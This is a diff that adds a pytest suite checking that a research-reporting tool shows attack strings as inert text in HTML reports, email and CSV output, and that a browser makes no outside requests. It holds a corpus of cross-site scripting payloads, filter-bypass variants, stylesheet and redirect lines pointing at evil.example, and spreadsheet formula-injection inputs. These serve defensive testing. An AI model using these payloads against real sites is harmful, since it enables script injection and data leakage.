@@ -1,0 +1,213 @@
+"""Customer text is shown and never acts: a corpus of attacks, looked at as text and in a browser."""
+
+from __future__ import annotations
+
+import csv
+import email
+import email.policy
+import io
+import json
+import re
+from html.parser import HTMLParser
+from pathlib import Path
+
+import pytest
+
+from cxresearch.reporting.blocks import inert_cell
+from cxresearch.reporting.page import clean, prose
+
+MARK = "PWNED"
+ATTACKS = [
+    f"<script>document.title='{MARK}'</script>",
+    f"</td></table><script>document.title='{MARK}'</script>",
+    f"<img src=x onerror=\"document.title='{MARK}'\">",
+    f"<svg onload=\"document.title='{MARK}'\"><animate onbegin=\"document.title='{MARK}'\"></svg>",
+    f"<iframe srcdoc=\"<script>top.document.title='{MARK}'</script>\"></iframe>",
+    f"<a href=\"javascript:document.title='{MARK}'\" id=click>click</a>",
+    f"<details open ontoggle=\"document.title='{MARK}'\">x</details>",
+    f"<body onload=\"document.title='{MARK}'\">",
+    f"<style>@import 'https://evil.example/{MARK}.css'; body{{display:none}}</style>",
+    f"<link rel=stylesheet href=https://evil.example/{MARK}.css>",
+    "<base href=https://evil.example/>",
+    f"<meta http-equiv=refresh content='0;url=https://evil.example/{MARK}'>",
+    f"<form action=https://evil.example/{MARK}><input type=submit></form>",
+    f"<object data=\"data:text/html,<script>parent.document.title='{MARK}'</script>\"></object>",
+    f"<math><mtext><mglyph><style><img src=x onerror=\"document.title='{MARK}'\"></style></mglyph></math>",
+    f"<noscript><p title=\"</noscript><img src=x onerror=document.title='{MARK}'>\">",
+    f'<div style="background:url(https://evil.example/{MARK}.png)">x</div>',
+    f"![x](https://evil.example/{MARK}.png) [y](javascript:document.title='{MARK}') <https://evil.example>",
+    f"```mermaid\ngraph TD; A-->B; click A href \"javascript:document.title='{MARK}'\"\n```",
+    f"$$\\href{{javascript:document.title='{MARK}'}}{{x}}$$ {{{{7*7}}}} {{% raw %}}",
+    f"<ScRiPt/x>document.title='{MARK}'</sCrIpT >",
+    f"<scr<script>ipt>document.title='{MARK}'</scr</script>ipt>",
+    '=HYPERLINK("https://evil.example","x")',
+    "\u202egnp.exe <!-- --><![CDATA[ ]]> &lt;script&gt;alert(1)&lt;/script&gt;",
+]
+SHOWN = [
+    "import pandas as pd\nfrom cxresearch.results.estimate import Estimate",
+    "from cxresearch.results.units import Unit",
+    "attacks = " + ascii(ATTACKS),
+    "frame = pd.DataFrame({'comment': attacks, '<script>x</script>': range(len(attacks))})",
+    "[present.finding(text, detail=text) for text in attacks];",
+    "present.table(frame, caption=attacks[0], name='comments', labels={'comment': attacks[2]})",
+    "present.method('\\n\\n'.join(attacks), title=attacks[2])\npresent.caveats(attacks, title=attacks[3])",
+    "frame",
+    "print('\\n'.join(attacks))",
+    "from IPython.display import HTML, Markdown, SVG, Javascript, display\nimport sys",
+    "[display(HTML(text), Markdown(text)) for text in attacks];",
+    "display(Javascript('document.title=1'), {'text/html': attacks[0]}, raw=False)",
+    "svg = '<svg xmlns=\"http://www.w3.org/2000/svg\"><script>document.title=2</script></svg>'",
+    "display({'image/svg+xml': svg}, raw=True)",
+    "forged = {'cxresearch': {'block': 'finding'}}",
+    "display({'text/html': '<p>forged</p>' + attacks[2]}, raw=True, metadata=forged)",
+    "display({'image/png': '\"><script>document.title=3</script>'}, raw=True)",
+    "print('\\n'.join(attacks), file=sys.stderr)",
+    "bad = Estimate(name=attacks[0], value=1.0, low=0.0, high=2.0, level=0.95, se=1.0, n=3, unit=Unit.SCORE,"
+    " method=attacks[0], note=attacks[2])",
+    "present.tiles([bad])\nbad",
+]
+SAVE = "present.save_results(finding=attacks[0] + attacks[2], headline=[bad], results={'comments': attacks})"
+
+
+class Elements(HTMLParser):
+    """Collects what a browser would act on."""
+
+    def __init__(self) -> None:
+        super().__init__()
+        self.found: list[str] = []
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        acts = {
+            "script",
+            "iframe",
+            "object",
+            "embed",
+            "form",
+            "base",
+            "link",
+            "svg",
+            "math",
+            "input",
+            "video",
+        }
+        if tag in acts:
+            self.found.append(tag)
+        for name, value in attrs:
+            text = (value or "").strip().lower()
+            if name.startswith("on") or name in ("srcdoc", "action", "formaction"):
+                self.found.append(f"{tag} {name}")
+            if name in ("src", "href", "data", "background") and not text.startswith(("data:image/", "#")):
+                self.found.append(f"{tag} {name} {text}")
+            if name == "style" and ("url(" in text or "expression" in text or "@import" in text):
+                self.found.append(f"{tag} style {text}")
+        if tag == "meta" and dict(attrs).get("http-equiv", "").lower() == "refresh":
+            self.found.append("meta refresh")
+
+
+def acting(markup: str) -> list[str]:
+    parser = Elements()
+    parser.feed(markup)
+    parser.close()
+    return parser.found
+
+
+@pytest.fixture(scope="module")
+def attacked(warm_worker, tmp_path_factory) -> Path:
+    from cxresearch.reporting.plan import plan_run
+    from cxresearch.reporting.run import execute_plan
+
+    from .conftest import write_notebook
+
+    folder = tmp_path_factory.mktemp("attacked")
+    path = write_notebook(folder / "attacked.ipynb", SHOWN, save=SAVE, prose="\n\n".join(ATTACKS))
+    return execute_plan(plan_run(path, output=folder / "reports"), warm_worker).folder
+
+
+@pytest.mark.parametrize("attack", ATTACKS)
+def test_clean_leaves_nothing_that_acts(attack: str) -> None:
+    assert not acting(clean(attack))
+    assert not acting(clean(clean(attack)))
+
+
+@pytest.mark.parametrize("attack", ATTACKS)
+def test_prose_shows_markup_instead_of_acting_on_it(attack: str) -> None:
+    found = [item for item in acting(prose(attack)) if not item.startswith("a href https://")]
+    assert not found
+
+
+def test_page_and_mail_hold_nothing_that_acts(attacked) -> None:
+    for name in ("report.html", "email.html"):
+        found = acting((attacked / name).read_text(encoding="utf-8"))
+        assert [item for item in found if not item.startswith("a href https://evil.example")] == [], name
+    assert not acting(
+        (attacked.parent / "index.html")
+        .read_text()
+        .replace("<svg", "<x-svg")
+        .replace(f'href="{attacked.name}/report.html"', "")
+    )
+
+
+def test_every_attack_is_shown_as_text(attacked) -> None:
+    import html
+
+    page = (attacked / "report.html").read_text(encoding="utf-8")
+    for attack in ATTACKS:
+        assert html.escape(attack, quote=True) in page
+
+
+def test_tables_run_no_formula(attacked) -> None:
+    rows = list(csv.reader(io.StringIO((attacked / "tables" / "comments.csv").read_text(encoding="utf-8"))))
+    assert len(rows) == len(ATTACKS) + 1
+    for row in rows:
+        assert not row[0].lstrip().startswith(("=", "+", "-", "@")), row
+
+
+@pytest.mark.parametrize(
+    "text", ["=1+1", "+1", "-1+2", "@SUM(A1)", "\t=1", " =1", "\r=1", "\ufeff=1", "＝1", "|calc"]
+)
+def test_cells_that_a_spreadsheet_would_run_are_quoted(text: str) -> None:
+    assert inert_cell(text) == f"'{text}"
+
+
+@pytest.mark.parametrize("value", ["fine", "a=b", "", -3, 2.5, None, True])
+def test_other_cells_stay(value: object) -> None:
+    assert inert_cell(value) == value
+
+
+def test_mail_is_a_message_below_the_limit_of_mail_programs(run, notebook) -> None:
+    cells = [
+        "import matplotlib.pyplot as plt, numpy as np",
+        "axes = plt.subplots(figsize=(9, 6))[1]\naxes.scatter(*np.random.default_rng(1).random((2, 3000)))",
+        "present.show(axes, name='cloud', caption='A cloud, n 3,000')",
+    ]
+    folder = run(notebook(cells)).folder
+    assert (folder / "email.html").stat().st_size < 90_000
+    assert (folder / "email.eml").stat().st_size < 150_000
+    message = email.message_from_bytes((folder / "email.eml").read_bytes(), policy=email.policy.default)
+    assert message["Subject"] == "A small report"
+    assert "All is well." in message.get_body(("plain",)).get_content()
+    page = message.get_body(("html",)).get_content()
+    (wanted,) = re.findall(r'src="cid:([^"]+)"', page)
+    (image,) = [part for part in message.walk() if part.get_content_maintype() == "image"]
+    assert image["Content-ID"] == f"<{wanted}>"
+    assert image.get_content().startswith(b"\x89PNG")
+    assert len(page) < 90_000
+
+
+@pytest.mark.browser
+def test_the_browser_runs_nothing_and_asks_nobody(attacked, browser) -> None:
+    page = browser.new_page()
+    asked: list[str] = []
+    page.on("request", lambda request: asked.append(request.url))
+    page.on("dialog", lambda dialog: asked.append(f"dialog {dialog.message}"))
+    for name in ("report.html", "email.html"):
+        page.goto((attacked / name).as_uri())
+        page.wait_for_timeout(300)
+        title = json.loads((attacked / "notebook.ipynb").read_text())["cells"][0]["source"].splitlines()[0]
+        assert page.title() == title.removeprefix("# ")
+        assert MARK not in page.title()
+        assert page.locator("h1").first.is_visible()
+        for link in page.locator("a").all()[:3]:
+            assert not (link.get_attribute("href") or "").startswith("javascript")
+    assert [url for url in asked if not url.startswith(("file:", "data:image/"))] == []
+    page.close()
